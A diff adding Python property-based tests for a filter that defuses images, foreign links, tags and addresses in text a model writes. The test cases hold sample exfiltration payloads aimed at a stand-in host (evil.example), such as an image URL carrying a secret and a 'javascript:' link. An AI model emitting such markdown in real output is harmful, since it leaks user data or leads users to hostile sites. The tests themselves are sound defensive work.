@@ -1,0 +1,93 @@
+"""The filter of what a model writes."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from services.maya.cleaning import clean, cleaned, clipped
+from services.maya.output import OutputFilter
+
+OWN = "https://app.nudge.example"
+PARTS = [
+    "![", "!", "[", "]", "](", "]:", "(", ")", "<", "<img src=", "</a>", "&#58;", "&", "&colon;", ";", ":", "//", "\\",
+    "http", "https://", "www", "WWW.", ".", OWN, f"{OWN}/", f"{OWN}.evil.example", OWN[:9], "evil.example/x.png",
+    " ", "\n", "word", "\u200b", "\x00", "\ud800", "é", "h",
+]  # fmt: skip
+hostile = st.lists(st.sampled_from(PARTS) | st.text(max_size=4), max_size=30).map("".join)
+
+
+def filtered(*pieces: str) -> str:
+    """The pieces after the filter."""
+    output = OutputFilter(OWN)
+    return "".join([*map(output.feed, pieces), output.finish()])
+
+
+@given(hostile, st.data())
+def test_pieces_do_not_matter(text: str, data: st.DataObject) -> None:
+    """However a text is cut into pieces, what comes out is the same."""
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
+    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+    assert filtered(*pieces) == filtered(text) == filtered(*text)
+
+
+@given(hostile)
+def test_only_blanks_are_put_in(text: str) -> None:
+    """Nothing visible is lost or changed: without blanks, the text is the same before and after."""
+    assert filtered(text).replace(" ", "") == clean(text).replace(" ", "")
+
+
+@given(hostile)
+def test_nothing_loads_or_leads_away(text: str) -> None:
+    """No image, tag, definition or entity is left, and no address or link but under our own URL."""
+    shown = filtered(text)
+    assert not re.search(r"!\[|\]:|<[A-Za-z/!?]|&#?\w{1,31};", shown, re.ASCII)
+    own = re.escape(OWN) + r"(?=[/?#\s)\]]|$)"
+    assert not re.search(r"\]\((?!" + own + ")", shown)
+    rest = re.sub(own, "", shown)
+    assert not re.search(r":\\?/|www\\?\.", rest, re.IGNORECASE)
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("![pixel](https://evil.example/p.png?q=secret)", "! [pixel] (https: //evil.example/p.png?q=secret)"),
+        ("!![a][1]\n\n[1]: //evil.example/p", "!! [a][1]\n\n[1] : //evil.example/p"),
+        ("[your account](https://evil.example)", "[your account] (https: //evil.example)"),
+        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
+        ("See http://evil.example or www.evil.example", "See http: //evil.example or www .evil.example"),
+        ('<img src="//evil.example/p">', '< img src="//evil.example/p">'),
+        ("<https://evil.example>", "< https: //evil.example>"),
+        ("http&#58;//evil.example", "http& #58;//evil.example"),
+        (r"http:\//evil.example", r"http: \//evil.example"),
+        (f"{OWN}.evil.example {OWN}@evil.example", "https: //app.nudge.example.evil.example "
+                                                   "https: //app.nudge.example@evil.example"),
+        (f"[Spring]({OWN}/campaigns/1) and {OWN}", f"[Spring]({OWN}/campaigns/1) and {OWN}"),
+        (f"{OWN}/go?to=https://evil.example", f"{OWN}/go?to=https: //evil.example"),
+        ("**12 %** opened, 3 < 4, AT&T; a[0] at 10:30, wow!", "**12 %** opened, 3 < 4, AT& T; a[0] at 10:30, wow!"),
+    ],
+)  # fmt: skip
+def test_examples(written: str, shown: str) -> None:
+    """Images, foreign links, definitions, tags and addresses are shown as text; our own links stay."""
+    assert filtered(written) == shown
+
+
+def test_plain_words_do_not_wait() -> None:
+    """Ordinary text passes at once; only the start of a construct waits for what follows."""
+    output = OutputFilter(OWN)
+    assert output.feed("You have ") == "You have "
+    assert output.feed("12 contacts!") == "12 contacts"
+    assert output.feed(" Great") == "! Great"
+    assert output.feed(" h") == " "
+    assert output.feed("ow") == "ho"
+    assert output.finish() == "w"
+
+
+def test_cleaning() -> None:
+    """Controls, zero-width, direction, tag characters and variation selectors go; line feeds and letters stay."""
+    assert clean("a\x00b\u200bc\u202ed\U000e0041e\ufe0f\n\tü 日本 🙂\ud800") == "abcde\n\tü 日本 🙂"
+    assert clipped("x" * 10, 5) == "xxxx…"
+    assert cleaned({"n\x00": ["a\u200b" * 3, 1, None, True, 0.5]}, longest_text=2) == {
+        "n": ["a…", 1, None, True, 0.5]
+    }
